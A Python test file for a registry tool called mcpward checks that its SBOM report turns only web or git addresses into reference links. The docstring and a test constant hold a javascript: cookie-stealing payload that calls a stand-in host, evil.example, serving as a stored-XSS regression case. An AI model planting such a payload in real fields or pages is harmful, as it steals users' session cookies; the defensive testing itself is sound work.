"""The SBOM of the approved servers (`mcpward report sbom`) is read by other tools (Dependency-
Track and the like), which make links of its URLs. An entry's repository is what the requester
typed: ``javascript:fetch('//evil.example/'+document.cookie)`` was written as the component's
VCS reference, a link in a consumer's page. Only a web or git address is a reference now; any
other stays a property, as text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from mcpward.registry import Registry
from test_registry import package_request

SCRIPT = "javascript:fetch('//evil.example/'+document.cookie)"


def test_a_repository_that_is_no_web_address_is_no_reference(cli: Any, tmp_path: Path) -> None:
    database = f"sqlite:///{tmp_path / 'registry.db'}"
    registry = Registry.open(database)
    for name, repository in (("files", SCRIPT), ("notes", "https://github.com/acme/notes")):
        entry = registry.request(package_request(name=name, repository=repository), "alice")
        registry.approve(entry.id, "bob", "ok")
    registry.database.dispose()
    result = cli("report", "sbom", "--database", database)
    assert result.exit_code == 0, result.stderr
    components = {c["name"]: c for c in json.loads(result.stdout)["components"]}
    urls = [r["url"] for c in components.values() for r in c.get("externalReferences", ())]
    assert urls == ["https://github.com/acme/notes"]
    properties = {p["name"]: p["value"] for p in components["@acme/files"]["properties"]}
    assert properties["mcpward:repository"] == SCRIPT
